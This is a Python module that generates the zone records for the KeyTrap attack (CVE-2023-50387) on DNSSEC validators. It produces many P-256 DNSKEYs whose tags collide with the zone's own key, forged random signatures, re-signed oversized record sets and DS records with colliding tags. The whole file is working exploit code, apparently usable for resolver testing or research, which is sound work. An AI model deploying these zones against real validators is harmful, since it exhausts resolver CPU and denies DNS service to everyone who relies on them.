"""What an attacker puts into a zone of his own: keys whose tags collide (CVE-2023-50387, KeyTrap), signatures that nobody made.

The keys are points of the curve, so that a validator does all the work for each; the tag is brought about by the reserved bits of the
flags, which validators must ignore (RFC 4034 §2.1.1). The same every time: the random numbers are seeded by the zone."""
import base64
import random
import re

import dns.dnssec
import dns.rdata
import dns.rrset
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, utils

PRIME = 2**256 - 2**224 + 2**192 + 2**96 - 1  # of P-256 (FIPS 186-4 D.1.2.3)
CONSTANT = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
ALGORITHM = 13                                # ECDSAP256SHA256
ZONE_KEY, REVOKED = 0x0100, 0x0080            # of the flags (RFC 4034 §2.1.1, RFC 5011 §7)
OCTETS = 32


def point(numbers):
    """Some point of P-256, as a DNSKEY has it (RFC 6605 §4)."""
    while True:
        x = numbers.randrange(PRIME)
        square = (x**3 - 3 * x + CONSTANT) % PRIME
        y = pow(square, (PRIME + 1) // 4, PRIME)
        if y * y % PRIME == square:
            return x.to_bytes(OCTETS, "big") + y.to_bytes(OCTETS, "big")


def key_tag(rdata):
    """RFC 4034 Appendix B."""
    total = sum(octet << 8 if place % 2 == 0 else octet for place, octet in enumerate(rdata))
    return (total + (total >> 16)) & 0xFFFF


def key_with_tag(tag, numbers):
    """Flags and public key of a zone key with that tag."""
    while True:
        public = point(numbers)
        without_flags = key_tag(b"\0\0" + bytes((3, ALGORITHM)) + public)
        for flags in ((tag - without_flags) & 0xFFFF, (tag - without_flags - 1) & 0xFFFF):
            rdata = flags.to_bytes(2, "big") + bytes((3, ALGORITHM)) + public
            if key_tag(rdata) == tag and flags & ZONE_KEY and not flags & REVOKED:
                return flags, public


def colliding_keys(origin, key_file, count):
    """Zone lines of the zone's own key, by which ldns-signzone would otherwise take another of its tag, and of so many keys with that
    tag, whose private halves nobody knows."""
    if not count:
        return ""
    with open(f"{key_file}.key", encoding="ascii") as file:
        own = file.read().split(";")[0]
    flags, protocol, algorithm, *public = own.split("DNSKEY")[1].split()
    tag = key_tag(int(flags).to_bytes(2, "big") + bytes((int(protocol), int(algorithm))) + base64.b64decode("".join(public)))
    numbers = random.Random(origin)
    others = (key_with_tag(tag, numbers) for _ in range(count))
    return f"{own.strip()}\n" + "".join(f"{origin} 300 IN DNSKEY {flags} 3 {ALGORITHM} {base64.b64encode(public).decode()}\n"
                                       for flags, public in others)


def forged(line, count):
    """Signatures like the one of this zone line, each of random numbers; the line itself is the last."""
    fields = line.split()
    numbers = random.Random(line)
    others = [" ".join([*fields[:12], base64.b64encode(numbers.randbytes(2 * OCTETS)).decode()]) for _ in range(count)]
    return [*others, line]


def signed_again(line, records, key_file):
    """The signature of this zone line over these records, made anew: ldns-signzone (1.8) signs something else where they are longer than
    64 KiB with every name spelt out, as signatures see them (RFC 4034 §6.2)."""
    owner, ttl, _, _, rdata = line.split(None, 4)
    signature = dns.rdata.from_text("IN", "RRSIG", rdata)
    rrset = dns.rrset.from_text_list(owner, int(ttl), "IN", rdata.split()[0], records)
    data = dns.dnssec._make_rrsig_signature_data(rrset, signature)  # what RFC 4034 §3.1.8.1 lists
    with open(f"{key_file}.private", encoding="ascii") as file:
        secret = base64.b64decode(re.search("PrivateKey: (.*)", file.read())[1])
    key = ec.derive_private_key(int.from_bytes(secret, "big"), ec.SECP256R1())
    numbers = utils.decode_dss_signature(key.sign(data, ec.ECDSA(hashes.SHA256())))
    made = b"".join(number.to_bytes(OCTETS, "big") for number in numbers)
    return " ".join([*line.split()[:12], base64.b64encode(made).decode()])


def colliding_ds(line, count):
    """DS lines with the tag of this one and digests of nothing, and the line itself."""
    *head, digest = line.split()
    numbers = random.Random(line)
    return "".join(" ".join([*head, numbers.randbytes(len(digest) // 2).hex()]) + "\n" for _ in range(count)) + line
